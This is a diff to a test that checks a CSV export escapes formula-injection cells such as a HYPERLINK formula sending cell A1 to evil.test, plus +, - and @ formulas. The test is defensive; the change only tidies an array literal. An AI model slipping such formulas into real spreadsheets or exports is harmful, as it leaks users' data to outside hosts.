@@ -231,7 +231,7 @@ describe("an import", () => {
     await (await check(admin, [formulas])).store();
     const { text } = await admin("GET", `${T}/questions/export?format=csv`);
     const line = text.split("\r\n").find((one) => one.includes("HYPERLINK")) ?? "";
-    for (const cell of [`"'=HYPERLINK(""http://evil.test/?""&A1)"`, ...["'+1+1", "'-2", "'@SUM(A1)", "''=1"]])
+    for (const cell of [`"'=HYPERLINK(""http://evil.test/?""&A1)"`, "'+1+1", "'-2", "'@SUM(A1)", "''=1"])
       expect(line).toContain(`,${cell},`);
     expect(line).not.toMatch(/(?:^|,)"?[=+@-]/);
     const { rows } = await readFile(new TextEncoder().encode(text).buffer, {
